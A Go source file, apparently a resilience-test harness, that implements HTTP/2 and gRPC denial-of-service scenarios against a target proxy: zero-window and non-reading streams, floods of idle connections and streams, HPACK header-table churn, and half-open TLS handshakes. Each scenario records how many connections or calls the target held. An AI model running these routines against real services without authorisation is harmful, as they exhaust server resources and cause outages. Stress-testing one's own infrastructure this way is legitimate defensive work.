package attack

import (
	"context"
	"crypto/rand"
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	testpb "google.golang.org/grpc/interop/grpc_testing"
	"google.golang.org/protobuf/proto"
)

// bigResponse asks the test backend for a server-streaming response far
// larger than any window: 1,000 messages of 64 KiB.
var bigResponse = func() []byte {
	req := &testpb.StreamingOutputCallRequest{}
	for range 1000 {
		req.ResponseParameters = append(req.ResponseParameters, &testpb.ResponseParameters{Size: 64 << 10})
	}
	b, err := proto.Marshal(req)
	if err != nil {
		panic(err)
	}
	msg := message(len(b))
	copy(msg[5:], b)
	return msg
}()

// bigStream opens stream id as a call for bigResponse.
func (c *conn) bigStream(id uint32) error {
	blk := c.request(streamingMethod)
	return c.write(func(fr *http2.Framer) error {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteData(id, true, bigResponse)
	})
}

// waitCount waits until n() reaches want, or ctx ends.
func waitCount(ctx context.Context, want int, n func() int) {
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	for n() < want {
		select {
		case <-tick.C:
		case <-ctx.Done():
			return
		}
	}
}

// zeroWindow: one connection that announces a stream window of 0 and
// opens 12 large server-streaming calls, never granting any window: the
// responses can only wait in the proxy.
func (s Scale) zeroWindow(ctx context.Context, t Target, held func()) (Outcome, error) {
	const streams = 12
	c, err := dial(ctx, t, dialOpts{settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}})
	if err != nil {
		return Outcome{}, err
	}
	defer c.close()
	var o Outcome
	for i := range streams {
		if c.bigStream(uint32(1+2*i)) != nil {
			break
		}
		o.Sent++
	}
	waitCount(ctx, o.Sent, func() int { return int(c.heads.Load()) })
	pause(ctx, s.Hold)
	if held != nil {
		held()
	}
	o.Held = int(c.heads.Load())
	o.add(c)
	return o, nil
}

// nonReading: 4 connections × 25 large server-streaming calls with the
// largest windows, whose client never reads its socket.
func (s Scale) nonReading(ctx context.Context, t Target, held func()) (Outcome, error) {
	const conns, streams = 4, 25
	opts := dialOpts{
		settings:   []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}},
		connWindow: 1<<31 - 1,
		noRead:     true,
	}
	var o Outcome
	var cs []*conn
	defer func() {
		for _, c := range cs {
			c.close()
		}
	}()
	for range conns {
		c, err := dial(ctx, t, opts)
		if err != nil {
			return o, err
		}
		cs = append(cs, c)
		for i := range streams {
			if c.bigStream(uint32(1+2*i)) != nil {
				break
			}
			o.Sent++
		}
	}
	pause(ctx, s.Hold)
	if held != nil {
		held()
	}
	o.Held = o.Sent
	for _, c := range cs {
		o.add(c)
	}
	return o, nil
}

// dialMany opens n connections from a few goroutines at once and waits
// for each to have the server's SETTINGS. It returns those it opened.
func dialMany(ctx context.Context, t Target, n int) []*conn {
	var (
		mu   sync.Mutex
		cs   []*conn
		wg   sync.WaitGroup
		next = make(chan struct{}, n)
	)
	for range n {
		next <- struct{}{}
	}
	close(next)
	for range 8 {
		wg.Go(func() {
			for range next {
				c, err := dial(ctx, t, dialOpts{})
				if err != nil {
					continue
				}
				select {
				case <-c.settled:
				case <-c.gone:
				case <-ctx.Done():
				}
				mu.Lock()
				cs = append(cs, c)
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	return cs
}

// idleConns: s.IdleConns connections that finish the HTTP/2 handshake and
// then say nothing.
func (s Scale) idleConns(ctx context.Context, t Target, held func()) (Outcome, error) {
	cs := dialMany(ctx, t, s.IdleConns)
	defer func() {
		for _, c := range cs {
			c.close()
		}
	}()
	var o Outcome
	for _, c := range cs {
		select {
		case <-c.settled:
			o.Held++
		default:
		}
	}
	pause(ctx, s.Settle)
	if held != nil {
		held()
	}
	for _, c := range cs {
		o.add(c)
	}
	if o.Held < s.IdleConns {
		return o, fmt.Errorf("%d of %d connections open", o.Held, s.IdleConns)
	}
	return o, nil
}

// idleStreams: s.IdleStreams calls, 100 to a connection, that the backend
// answers with headers and then nobody says anything more.
func (s Scale) idleStreams(ctx context.Context, t Target, held func()) (Outcome, error) {
	const perConn = 100
	cs := dialMany(ctx, t, (s.IdleStreams+perConn-1)/perConn)
	defer func() {
		for _, c := range cs {
			c.close()
		}
	}()
	var o Outcome
	for _, c := range cs {
		for i := 0; i < perConn && o.Sent < s.IdleStreams; i++ {
			if c.headers(uint32(1+2*i), c.held(duplexMethod), false) != nil {
				break
			}
			o.Sent++
		}
	}
	heads := func() int {
		n := 0
		for _, c := range cs {
			n += int(c.heads.Load())
		}
		return n
	}
	waitCount(ctx, o.Sent, heads)
	pause(ctx, s.Settle)
	if held != nil {
		held()
	}
	o.Held = heads()
	for _, c := range cs {
		o.add(c)
	}
	if o.Held < s.IdleStreams {
		return o, fmt.Errorf("%d of %d streams answered", o.Held, s.IdleStreams)
	}
	return o, nil
}

// headerChurn: complete calls whose header blocks each resize the
// dynamic table (to 0 and back) and insert 16 new 200-byte fields, so
// that every block evicts the last one's: the decoder's table, and any
// cache keyed by header values, churn without end. At most 64 calls
// are outstanding.
func (s Scale) headerChurn(ctx context.Context, t Target, held func()) (Outcome, error) {
	const outstanding, fields = 64, 16
	calls := s.Streams / 10
	c, err := dial(ctx, t, dialOpts{replenish: true})
	if err != nil {
		return Outcome{}, err
	}
	defer c.close()
	var o Outcome
	// Each call ends in two header blocks (or a reset).
	done := func() int { return int(c.heads.Load()/2 + c.resets.Load()) }
	value := make([]byte, 200)
	for id := uint32(1); o.Sent < calls && !c.ended() && ctx.Err() == nil; id += 2 {
		waitCount(ctx, o.Sent-outstanding, done)
		c.enc.SetMaxDynamicTableSize(0)
		c.enc.SetMaxDynamicTableSize(4096)
		extra := make([]string, 0, 2*fields)
		for k := range fields {
			rand.Read(value)
			extra = append(extra, fmt.Sprintf("x-churn-%d-%d", id, k), fmt.Sprintf("%x", value[:100]))
		}
		blk := c.request(emptyMethod, extra...)
		err := c.write(func(fr *http2.Framer) error {
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true}); err != nil {
				return err
			}
			return fr.WriteData(id, true, message(0))
		})
		if err != nil {
			break
		}
		o.Sent++
	}
	waitCount(ctx, o.Sent, done)
	if held != nil {
		held()
	}
	o.Held = done()
	o.add(c)
	return o, nil
}

// halfOpenTLS: s.HalfOpen TLS connections that send the first bytes of a
// ClientHello and then nothing more.
func (s Scale) halfOpenTLS(ctx context.Context, t Target, held func()) (Outcome, error) {
	// A handshake record of 512 bytes, of which only the handshake
	// header, the version and the random arrive.
	hello := []byte{0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03}
	hello = append(hello, make([]byte, 32)...)
	var (
		o      Outcome
		ncs    []net.Conn
		mu     sync.Mutex
		closed int
		wg     sync.WaitGroup
	)
	defer func() {
		for _, nc := range ncs {
			nc.Close()
		}
		wg.Wait()
	}()
	var d net.Dialer
	for range s.HalfOpen {
		nc, err := d.DialContext(ctx, "tcp", t.TLSAddr)
		if err != nil {
			break
		}
		ncs = append(ncs, nc)
		if _, err := nc.Write(hello); err != nil {
			continue
		}
		o.Sent++
		// Count the connections the server gives up on.
		wg.Go(func() {
			buf := make([]byte, 512)
			for {
				if _, err := nc.Read(buf); err != nil {
					mu.Lock()
					if ctx.Err() == nil {
						closed++
					}
					mu.Unlock()
					return
				}
			}
		})
	}
	o.Conns, o.Held = len(ncs), o.Sent
	pause(ctx, s.Hold)
	if held != nil {
		held()
	}
	mu.Lock()
	o.Ended = closed
	mu.Unlock()
	return o, nil
}
